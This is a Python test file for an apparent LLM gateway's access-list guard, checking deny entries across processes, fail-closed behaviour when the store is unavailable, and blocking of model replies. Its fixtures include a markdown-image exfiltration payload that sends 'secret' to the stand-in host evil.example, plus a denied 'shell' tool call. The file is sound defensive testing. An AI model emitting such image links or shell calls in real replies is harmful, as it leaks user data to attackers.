"""The access list at work on replies, in a second process, and while the store is away."""

import io
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from entrance import open_entrance

from gateway.clock import Clock, Ids
from gateway.domain.access_list import EntryType, ListName
from gateway.domain.principals import Caller, Principal, RequestContext, Scope, local
from gateway.errors import AuditUnavailable
from gateway.llm.base import Reply
from gateway.llm.openai import OpenAiDialect
from gateway.log import Log
from gateway.services.access_guard import AccessGuard, EntryDenied
from gateway.services.access_list import AccessList, WantedEntry
from gateway.services.core import Core
from gateway.services.keys import Keys, NewKey
from gateway.store.database import StoreUnavailable
from gateway.store.store import Store, open_store

CLI = local("cli")
CONTEXT = RequestContext(request_id="req_1", ip="192.0.2.1")
CALLER = Caller(CLI, CONTEXT)
TYPED = RequestContext(request_id="req_2")
WHO = Principal("key", "key_1", "ann", frozenset(Scope), frozenset(), "svc_abcdef", 60)


class Process:
    """One process over the database: its guard, and the services that change what it guards."""

    def __init__(self, store: Store) -> None:
        clock = Clock()
        core = Core(store, clock, Ids(clock))
        self.store = store
        self.keys = Keys(core)
        self.guard = AccessGuard(core)
        self.entries = AccessList(core)
        self.authentication = open_entrance(core, access=self.guard)

    async def deny(self, kind: EntryType, value: str, list_name: ListName = ListName.DENY) -> str:
        wanted = WantedEntry(list_name=list_name, entry_type=kind, value=value)
        return (await self.entries.create(Caller(CLI, TYPED), wanted)).id


async def open_process(path: Path) -> Process:
    clock = Clock()
    log = Log(io.StringIO(), clock)
    return Process(await open_store(path / "gateway.db", clock=clock, ids=Ids(clock), log=log))


@pytest.fixture
async def process(tmp_path: Path) -> AsyncIterator[Process]:
    one = await open_process(tmp_path)
    yield one
    await one.store.aclose()


async def test_what_one_process_denies_another_refuses_at_its_next_request(process: Process, tmp_path: Path) -> None:
    key = (await process.keys.create(CALLER, NewKey(name="ci", scopes=tuple(Scope)))).key
    other = await open_process(tmp_path)
    try:
        await other.authentication.authenticate(key, CONTEXT)
        entry_id = await process.deny(EntryType.IP, "192.0.2.1")
        with pytest.raises(EntryDenied) as caught:
            await other.authentication.authenticate(key, CONTEXT)
        assert caught.value.entry.id == entry_id
        await process.entries.remove(CALLER, entry_id)
        await other.authentication.authenticate(key, CONTEXT)
    finally:
        await other.store.aclose()


async def test_nobody_passes_while_a_changed_list_cannot_be_read(process: Process) -> None:
    key = (await process.keys.create(CALLER, NewKey(name="ci", scopes=tuple(Scope)))).key
    await process.authentication.authenticate(key, CONTEXT)
    await process.deny(EntryType.IP, "192.0.2.1")
    read = process.store.db.read

    async def fail(work: object, **how: bool) -> object:
        raise StoreUnavailable("away")

    process.store.db.read = fail  # type: ignore[method-assign,assignment]
    for _ in range(2):
        with pytest.raises(AuditUnavailable):
            await process.authentication.authenticate(key, CONTEXT)
    process.store.db.read = read  # type: ignore[method-assign]
    with pytest.raises(EntryDenied):
        await process.authentication.authenticate(key, CONTEXT)


def reply(**message: object) -> Reply:
    return Reply({"choices": [{"index": 0, "message": {"role": "assistant", "content": "", **message}}]})


@pytest.mark.parametrize(
    ("kind", "value", "message"),
    [
        (EntryType.DOMAIN, "evil.example", {"content": "![](https://evil.example/?q=secret)"}),
        (EntryType.DOMAIN, "evil.example", {"content": "go to evil.example"}),
        (
            EntryType.DOMAIN,
            "evil.example",
            {"tool_calls": [{"type": "function", "function": {"name": "f", "arguments": '{"u":"//evil.example/"}'}}]},
        ),
        (EntryType.TOOL, "shell", {"tool_calls": [{"type": "function", "function": {"name": "shell"}}]}),
    ],
)
async def test_a_reply_with_what_is_denied_is_given_to_nobody(
    process: Process, kind: EntryType, value: str, message: dict[str, object]
) -> None:
    await process.store.authority.follow()
    await process.guard.check_reply(WHO, reply(**message), OpenAiDialect())
    await process.deny(kind, value)
    await process.store.authority.follow()
    with pytest.raises(EntryDenied):
        await process.guard.check_reply(WHO, reply(**message), OpenAiDialect())
    await process.guard.check_reply(WHO, reply(content="https://good.example"), OpenAiDialect())


async def test_hits_the_store_does_not_take_are_counted_on(process: Process) -> None:
    entry_id = await process.deny(EntryType.IP, "192.0.2.1")
    await process.store.authority.follow()
    write_behind = process.store.db.write_behind

    def fail(work: object) -> None:
        raise StoreUnavailable("full")

    for refusing in (True, False):
        with pytest.raises(EntryDenied):
            process.guard.check_caller(Caller(WHO, CONTEXT))
        process.store.db.write_behind = fail if refusing else write_behind  # type: ignore[method-assign]
        process.guard.flush_hits()
    await process.store.db.write(lambda tx: None)
    assert (await process.entries.show(entry_id)).hits == 2
